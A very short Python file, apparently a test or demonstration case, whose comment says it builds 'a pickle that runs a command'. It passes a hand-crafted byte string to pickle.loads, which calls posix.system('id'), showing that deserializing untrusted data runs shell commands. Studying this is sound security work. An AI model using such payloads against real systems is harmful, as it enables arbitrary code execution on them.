# A pickle that runs a command.
# ends: exception AttributeError
import pickle

pickle.loads(b"cposix\nsystem\n(S'id'\ntR.")
